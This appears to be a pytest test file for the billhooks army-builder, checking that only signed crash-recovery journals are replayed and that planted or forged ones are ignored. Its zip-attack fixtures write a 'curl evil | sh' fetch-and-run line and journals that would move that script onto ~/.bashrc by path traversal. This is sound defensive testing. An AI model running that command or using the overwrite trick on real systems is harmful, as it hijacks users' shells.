"""A journal is obeyed only when billhooks wrote it (issue 26.1): signed with the user's key,
for its own folder, moving only its own temporary names onto the outputs its manifest lists,
and replayed only by a run that writes into that folder. A planted one (beside an army, in an
unpacked zip in a home folder, forged) is left where it is, named on stderr, and changes
nothing; a folder is never removed."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from builder import armyfile, files
from builder.cli import main
from builder.resources import examples_dir

#: One sample army per rule system.
EXAMPLES = ["lancaster.toml", "kiss-york.toml", "feudal-normandy.toml", "shieldwall-norse.toml"]
#: The journal of issue 26.1: replayed, it replaced notes.txt and deleted photos/.
ISSUE_JOURNAL = {"moves": [["readme.txt", "notes.txt"], ["extra.txt", "photos"]]}


def dead_pid() -> int:
    """The process id of a process that has ended (a journal's writer must be dead to be
    replayed)."""
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


def snapshot(folder: Path) -> dict[str, bytes | None]:
    """Every file (its bytes) and folder (None) under ``folder``, hidden ones too."""
    return {
        str(p.relative_to(folder)): None if p.is_dir() else p.read_bytes()
        for p in sorted(folder.rglob("*"))
    }


def plant(folder: Path, record: object = ISSUE_JOURNAL) -> Path:
    """The issue's scene: the files the journal names, and the journal of a dead process."""
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("readme.txt", "notes.txt", "extra.txt"):
        (folder / name).write_text(f"the user's {name}\n", encoding="utf-8")
    (folder / "photos").mkdir(exist_ok=True)
    (folder / "photos" / "archers.jpg").write_bytes(b"the user's photo")
    journal = folder / f".billhooks-journal.{dead_pid()}.x8k2"
    journal.write_text(record if isinstance(record, str) else json.dumps(record), encoding="utf-8")
    return journal


@pytest.mark.parametrize("example", EXAMPLES)
def test_commands_that_read_never_replay_a_journal(
    tmp_path: Path,
    example: str,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    folder = tmp_path / "club"
    plant(folder)
    army = folder / "army.toml"
    shutil.copy(examples_dir() / example, army)
    before = snapshot(folder)
    assert main(["check", str(army)]) == 0
    capsys.readouterr()
    assert main(["share", str(army)]) == 0
    code = tmp_path / "code.txt"
    code.write_text(capsys.readouterr().out, encoding="utf-8")
    assert main(["verify", str(army), "--code-file", str(code)]) == 0
    main(["roll", str(army), "--seed", "1"])  # exit 2 where the system rolls nothing
    monkeypatch.chdir(folder)
    ruleset = "billhooks" if example == "lancaster.toml" else example.split("-")[0]
    assert main(["catalogue", "--ruleset", ruleset]) == 0
    assert snapshot(folder) == before
    assert "journal" not in capsys.readouterr().err  # not even read


@pytest.mark.parametrize("example", EXAMPLES)
def test_a_planted_journal_is_left_alone_by_export_and_save(
    tmp_path: Path, example: str, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "club"
    journal = plant(folder)
    army = folder / "army.toml"
    shutil.copy(examples_dir() / example, army)
    before = snapshot(folder)
    assert main(["export", str(army), "--out", str(folder), "--only", "tokens"]) == 0
    err = capsys.readouterr().err
    # One line naming the journal, and why it was not obeyed.
    said = [line for line in err.splitlines() if journal.name in line]
    assert len(said) == 1 and "left" in said[0] and "not a journal this program wrote" in said[0]
    after = snapshot(folder)
    assert {k: after[k] for k in before} == before
    assert set(after) - set(before) == {"tokens.pdf", "manifest.json"}
    # A save into the folder (the builder's, atomic) leaves it too.
    record = armyfile.load(army)
    record.name = "Saved"
    armyfile.save(record, army)
    assert "Saved" in army.read_text(encoding="utf-8")
    assert {k: v for k, v in snapshot(folder).items() if k != "army.toml"} == {
        k: v for k, v in after.items() if k != "army.toml"
    }


def test_a_planted_journal_is_left_alone_by_muster(tmp_path: Path) -> None:
    folder = tmp_path / "club"
    plant(folder)
    before = snapshot(folder)
    assert (
        main(
            [
                "muster",
                str(examples_dir() / "collection.toml"),
                "--troops",
                "60",
                "--both",
                "--seed",
                "1",
                "--out",
                str(folder / "club.toml"),
            ]
        )
        == 0
    )
    after = snapshot(folder)
    assert {k: after[k] for k in before} == before
    assert set(after) - set(before) == {"club-york.toml", "club-lancaster.toml"}


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A scratch home folder (HOME and the config folder in it) with a shell start-up file."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# the user's own\n", encoding="utf-8")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    return home


ZIP_JOURNALS: list[object] = [
    {"moves": [["evil.sh", ".bashrc"]]},
    {"moves": [["evil.sh", "../.bashrc"]]},
    {"moves": [["../unzipped/evil.sh", "../.bashrc"]]},
    {"v": 2, "moves": [[".evil.sh.bh1-ab.tmp", ".bashrc"]], "aside": [], "mac": "0" * 64},
    "[" * 100_000,  # nested past the JSON reader's depth
    "not json at all",
]


@pytest.mark.parametrize("record", ZIP_JOURNALS)
@pytest.mark.parametrize("where", [".", "unzipped"])
def test_the_zip_attack_on_a_home_folder(home: Path, where: str, record: object) -> None:
    """A zip unpacked in the home folder (or a folder in it) holding an army, a script and a
    journal that would move the script onto ~/.bashrc: no command obeys it."""
    folder = home / where
    plant(folder, record)
    for name in ("evil.sh", ".evil.sh.bh1-ab.tmp"):
        (folder / name).write_text("curl evil | sh\n", encoding="utf-8")
    shutil.copy(examples_dir() / "lancaster.toml", folder / "army.toml")
    shutil.copy(examples_dir() / "collection.toml", folder / "collection.toml")
    shutil.copytree(examples_dir() / "photos", folder / "photos", dirs_exist_ok=True)
    bashrc = (home / ".bashrc").read_bytes()
    army = str(folder / "army.toml")
    assert main(["share", army]) == 0
    assert main(["check", army]) == 0
    assert main(["export", army, "--out", str(folder), "--only", "tokens"]) == 0
    assert main(["export", army, "--out", str(home), "--only", "tokens"]) == 0
    assert (
        main(
            [
                "muster",
                str(folder / "collection.toml"),
                "--troops",
                "60",
                "--seed",
                "1",
                "--both",
                "--out",
                str(folder / "club.toml"),
            ]
        )
        == 0
    )
    assert (home / ".bashrc").read_bytes() == bashrc
    assert (folder / "notes.txt").read_text(encoding="utf-8") == "the user's notes.txt\n"
    assert (folder / "photos" / "archers.jpg").exists()
    assert [p.name for p in folder.iterdir() if p.name.startswith(".billhooks-journal.")]


# --- Signed journals: what a kill leaves, and forgeries of it -------------------------------


def pending_commit(out: Path, pid: int, roster: bytes) -> tuple[dict[str, object], Path]:
    """The scene a pack export killed just after writing its journal leaves: a new tokens.pdf
    and manifest at temporary names of process ``pid``, and the journal's body (unsigned)."""
    tmp_pdf = f".tokens.pdf.bh{pid}-ab12.tmp"
    tmp_manifest = f".manifest.json.bh{pid}-cd34.tmp"
    (out / tmp_pdf).write_bytes(roster)
    (out / tmp_manifest).write_text(
        json.dumps({"files": [{"file": "tokens.pdf"}]}), encoding="utf-8"
    )
    body: dict[str, object] = {
        "v": 2,
        "pid": pid,
        "folder": os.path.realpath(out),
        "moves": [[tmp_pdf, "tokens.pdf"], [tmp_manifest, "manifest.json"]],
        "aside": [],
    }
    return body, out / f".billhooks-journal.{pid}.ef56"


def signed(body: dict[str, object]) -> dict[str, object]:
    key = files.journal_key()
    assert key is not None
    return {**body, "mac": files._mac(key, body)}


def test_a_journal_signed_with_the_users_key_is_replayed(tmp_path: Path) -> None:
    """The control for the forgeries below: the same scene, signed, is finished."""
    out = tmp_path / "pack"
    assert (
        main(["export", str(examples_dir() / "york.toml"), "--out", str(out), "--only", "tokens"])
        == 0
    )
    body, journal = pending_commit(out, dead_pid(), b"%PDF-new tokens")
    journal.write_text(json.dumps(signed(body)), encoding="utf-8")
    files.sweep(out)
    assert (out / "tokens.pdf").read_bytes() == b"%PDF-new tokens"
    assert sorted(p.name for p in out.iterdir()) == ["manifest.json", "tokens.pdf"]


def forged(body: dict[str, object], how: str) -> dict[str, object]:
    if how == "no signature":
        return body
    if how == "another key":
        return {**body, "mac": files._mac(b"k" * 32, body)}
    assert how == "changed after signing"
    moves = body["moves"]
    assert isinstance(moves, list)
    return {**signed(body), "moves": [[moves[0][0], "roster.pdf"], moves[1]]}


@pytest.mark.parametrize("how", ["no signature", "another key", "changed after signing"])
def test_export_does_not_replay_a_forged_journal(
    tmp_path: Path, how: str, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "pack"
    york = str(examples_dir() / "york.toml")
    assert main(["export", york, "--out", str(out), "--only", "tokens"]) == 0
    good = (out / "tokens.pdf").read_bytes()
    body, journal = pending_commit(out, dead_pid(), b"%PDF-forged")
    journal.write_text(json.dumps(forged(body, how)), encoding="utf-8")
    text = journal.read_bytes()
    capsys.readouterr()
    assert main(["export", york, "--out", str(out), "--only", "tokens"]) == 0
    assert (out / "tokens.pdf").read_bytes() == good
    assert journal.read_bytes() == text  # left untouched, never deleted
    err = [line for line in capsys.readouterr().err.splitlines() if journal.name in line]
    assert len(err) == 1 and "not a journal this program wrote" in err[0]


def _with(body: dict[str, object], **changes: object) -> dict[str, object]:
    return {**body, **changes}


@pytest.mark.parametrize(
    "change, why",
    [
        ({"moves": [["readme.txt", "tokens.pdf"]]}, "not one of its own temporary names"),
        ({"moves": [[".tokens.pdf.bh1-ab12.tmp", "tokens.pdf"]]}, "not one of its own"),
        ({"moves": [["{tmp}", ".bashrc"]]}, "hidden file"),
        ({"moves": [["{tmp}", "../tokens.pdf"]]}, "not a plain name"),
        (
            {"moves": [["{tmp}", "notes.txt"], ["{manifest}", "manifest.json"]]},
            "not an output its manifest lists",
        ),
        ({"folder": "/elsewhere"}, "another folder or process"),
        ({"pid": 1}, "another folder or process"),
        ({"aside": [["photos", "{tmp}"]]}, "damaged"),
    ],
)
def test_a_signed_journal_moves_only_its_temporaries_onto_its_outputs(
    tmp_path: Path, change: dict[str, object], why: str, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "pack"
    out.mkdir()
    for name in ("tokens.pdf", "notes.txt", "readme.txt"):
        (out / name).write_text(f"the user's {name}", encoding="utf-8")
    pid = dead_pid()
    body, journal = pending_commit(out, pid, b"%PDF-new")
    moves = body["moves"]
    assert isinstance(moves, list)
    names = {"{tmp}": moves[0][0], "{manifest}": moves[1][0]}
    changed = json.loads(json.dumps(change))
    for key in ("moves", "aside"):
        if key in changed:
            changed[key] = [[names.get(n, n) for n in pair] for pair in changed[key]]
    journal.write_text(json.dumps(signed(_with(body, **changed))), encoding="utf-8")
    before = snapshot(out)
    files.sweep(out)
    after = snapshot(out)
    assert {k: after[k] for k in ("tokens.pdf", "notes.txt", "readme.txt")} == {
        k: before[k] for k in ("tokens.pdf", "notes.txt", "readme.txt")
    }
    assert after[journal.name] == before[journal.name]
    err = capsys.readouterr().err
    assert f"left {journal}" in err and why in err


def test_a_folder_named_as_a_target_is_never_removed(tmp_path: Path) -> None:
    """A journal whose move would land on a folder: planted, it is ignored; signed (a kill
    before the old folder was moved aside), the commit is undone, the folder kept whole."""
    out = tmp_path / "pack"
    out.mkdir()
    (out / "photos").mkdir()
    (out / "photos" / "archers.jpg").write_bytes(b"the user's photo")
    planted = out / f".billhooks-journal.{dead_pid()}.aa"
    planted.write_text(json.dumps(ISSUE_JOURNAL), encoding="utf-8")
    pid = dead_pid()
    temp = out / f".tmp.bh{pid}-ab12.tmp"
    temp.mkdir()
    (temp / "card-01.png").write_bytes(b"new")
    journal = out / f".billhooks-journal.{pid}.bb"
    journal.write_text(
        json.dumps(
            signed(
                {
                    "v": 2,
                    "pid": pid,
                    "folder": os.path.realpath(out),
                    "moves": [[temp.name, "photos"]],
                    "aside": [["photos", f".photos.bh{pid}-cd34.tmp"]],
                }
            )
        ),
        encoding="utf-8",
    )
    files.recover(out)
    assert (out / "photos" / "archers.jpg").read_bytes() == b"the user's photo"
    assert planted.exists() and not journal.exists()  # the planted one stays; ours is done
    files.sweep(out)
    assert snapshot(out) == {
        "photos": None,
        "photos/archers.jpg": b"the user's photo",
        planted.name: json.dumps(ISSUE_JOURNAL).encode(),
    }


# --- The key ----------------------------------------------------------------------------------


def test_the_key_is_private_to_the_user(own_config: Path) -> None:
    key = files.journal_key()
    path = own_config / "billhooks" / "journal.key"
    assert key is not None and path.read_bytes() == key and len(key) == 32
    assert path.stat().st_mode & 0o777 == 0o600
    assert [p.name for p in path.parent.iterdir()] == ["journal.key"]  # no litter


@pytest.mark.parametrize("damage", ["group-readable", "short", "a link"])
def test_a_key_not_private_replays_nothing(
    own_config: Path, tmp_path: Path, damage: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path = own_config / "billhooks" / "journal.key"
    path.parent.mkdir()
    if damage == "a link":
        (tmp_path / "elsewhere").write_bytes(b"k" * 32)
        (tmp_path / "elsewhere").chmod(0o600)
        path.symlink_to(tmp_path / "elsewhere")
    else:
        path.write_bytes(b"k" * (32 if damage != "short" else 8))
        path.chmod(0o640 if damage == "group-readable" else 0o600)
    assert files.journal_key() is None
    assert "no journal key" in capsys.readouterr().err


def test_without_a_key_journals_are_written_but_never_replayed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A config folder that cannot be made (here: a file is in its way): the export still
    commits under a journal, a dead run's journal is kept, and stderr says so once."""
    (tmp_path / "not-a-folder").write_text("", encoding="utf-8")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "not-a-folder"))
    out = tmp_path / "pack"
    out.mkdir()
    body, journal = pending_commit(out, dead_pid(), b"%PDF-new")
    journal.write_text(json.dumps({**body, "mac": None}), encoding="utf-8")
    york = str(examples_dir() / "york.toml")
    assert main(["export", york, "--out", str(out), "--only", "tokens"]) == 0
    assert main(["export", york, "--out", str(out), "--only", "tokens"]) == 0
    assert journal.exists() and (out / "tokens.pdf").read_bytes().startswith(b"%PDF-1")
    err = capsys.readouterr().err
    assert err.count("no journal key") == 1 and err.count(f"left {journal}") == 1


def test_without_a_home_folder_an_export_still_writes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def no_home() -> Path:
        raise RuntimeError("Could not determine home directory.")

    monkeypatch.delenv("XDG_CONFIG_HOME")
    monkeypatch.setattr(Path, "home", no_home)
    out = tmp_path / "pack"
    assert (
        main(["export", str(examples_dir() / "york.toml"), "--out", str(out), "--only", "tokens"])
        == 0
    )
    assert sorted(p.name for p in out.iterdir()) == ["manifest.json", "tokens.pdf"]
    assert "no journal key (no home folder)" in capsys.readouterr().err
